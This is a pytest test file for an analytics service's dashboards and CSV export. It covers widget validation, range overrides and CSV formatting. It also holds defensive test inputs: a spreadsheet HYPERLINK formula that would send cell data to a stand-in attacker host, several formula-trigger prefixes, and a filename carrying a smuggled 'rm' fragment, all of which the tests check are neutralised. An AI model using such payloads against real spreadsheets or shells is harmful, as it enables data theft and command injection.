"""Pure logic of saved dashboards and CSV export: widget rules, view overrides, the CSV writer."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from common.sql_files import sql_sections
from serving.dashboards.store import (
    OVERVIEW,
    DashboardError,
    DashboardNotFound,
    Widget,
    check_widgets,
    with_overrides,
)
from serving.query.csv_export import csv_bytes, csv_filename, stamp
from serving.query.models import QueryModel, spec_input
from serving.query.spec import SpecInput, build_spec

NOW = datetime(2026, 11, 23, 13, 27, 31, tzinfo=UTC)


def widget(chart: str, wid: str = "", **query) -> tuple[Widget, object]:
    query = {"metrics": ["events"], **query}
    return Widget(wid, "", chart, query), build_spec(spec_input(QueryModel.model_validate(query)), now=NOW)


def check(*pairs):
    return check_widgets([p[0] for p in pairs], [p[1] for p in pairs])


def test_widgets_without_ids_are_numbered_around_the_ids_taken():
    got = check(widget("number"), widget("table", "w1"), widget("number"))
    assert [w.id for w in got] == ["w2", "w1", "w3"]
    assert [w.title for w in got] == ["w2", "w1", "w3"]


@pytest.mark.parametrize(
    ("pair", "message"),
    [
        (widget("line"), "a line chart needs a granularity"),
        (widget("pie", dimensions=["country", "device"]), "a pie shows one metric split by one dimension"),
        (widget("pie", dimensions=["country"], granularity="hour"), "a pie shows one metric"),
        (widget("bar"), "a bar chart needs a granularity or exactly one dimension"),
        (widget("number", dimensions=["page"]), "a number shows totals"),
        (widget("table", "no spaces"), "must be 1-64 letters"),
    ],
)
def test_charts_that_cannot_show_their_query_are_refused(pair, message):
    with pytest.raises(DashboardError, match=message):
        check(pair)


def test_duplicate_widget_ids_are_refused():
    with pytest.raises(DashboardError, match="used twice"):
        check(widget("table", "a"), widget("number", "a"))


def test_the_dashboard_range_replaces_the_widgets_and_its_filters_are_added():
    raw = SpecInput(metrics=["events"], start=datetime(2026, 1, 1, tzinfo=UTC), end=datetime(2026, 1, 2, tzinfo=UTC),
                    filters=[{"field": "device", "op": "=", "value": "mobile"}])
    viewed = with_overrides(raw, "7d", [{"field": "country", "op": "=", "values": ["US"]}])
    assert (viewed.range, viewed.start, viewed.end) == ("7d", None, None)
    assert [f["field"] for f in viewed.filters] == ["device", "country"]
    assert with_overrides(raw, None, []) is raw
    spec = build_spec(viewed, now=NOW)
    assert spec.end == NOW and (spec.end - spec.start).days == 7


def test_the_built_in_overview_is_valid_and_names_its_widgets():
    specs = [build_spec(spec_input(QueryModel.model_validate(w.query)), now=NOW) for w in OVERVIEW.widgets]
    assert check_widgets(OVERVIEW.widgets, specs) == OVERVIEW.widgets
    assert OVERVIEW.widget("by_country").chart == "pie"
    with pytest.raises(DashboardNotFound, match="its widgets: totals"):
        OVERVIEW.widget("nope")


def test_every_dashboard_statement_is_loaded():
    assert set(sql_sections("clickhouse/queries/dashboards.sql")) == {"list", "get", "put"}


def test_csv_round_trips_numbers_exactly_and_quotes_what_needs_it():
    rows = [["2026-11-23T13:00:00Z", "/a,b", 3, 0.1 + 0.2], ["2026-11-23T13:01:00Z", 'say "hi"', None, 1e-9]]
    text = csv_bytes(["bucket", "page", "events", "revenue"], rows).decode()
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0] == ["bucket", "page", "events", "revenue"]
    assert parsed[1][1] == "/a,b" and float(parsed[1][3]) == 0.1 + 0.2
    assert parsed[2][1:] == ['say "hi"', "", "1e-09"]
    assert text.endswith("\r\n")


def test_text_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text():
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "-1"]
    rows = [["2026-11-23T13:00:00Z", page, -3, -0.5] for page in evil] + [["2026-11-23T13:00:00Z", "a=b", 1, 2.0]]
    parsed = list(csv.reader(io.StringIO(csv_bytes(["bucket", "page", "events", "revenue"], rows).decode(),
                                         newline="")))
    pages = [r[1] for r in parsed[1:]]
    assert pages == ["'" + p for p in evil] + ["a=b"]  # a leading quote: the spreadsheet shows the text
    assert {(r[2], r[3]) for r in parsed[1:-1]} == {("-3", "-0.5")}  # typed numbers stay numbers, sign included
    assert parsed[1][0] == "2026-11-23T13:00:00Z"
    assert csv_bytes(["=cmd"], []).decode().startswith("'=cmd")


def test_download_names_are_safe():
    name = csv_filename("topn-events-by-page", stamp("2026-11-23T13:18:00Z"))
    assert name == "topn-events-by-page-20261123T1318Z.csv"
    assert csv_filename("d-1", 'w"; rm', "x") == "d-1-w_rm-x.csv"
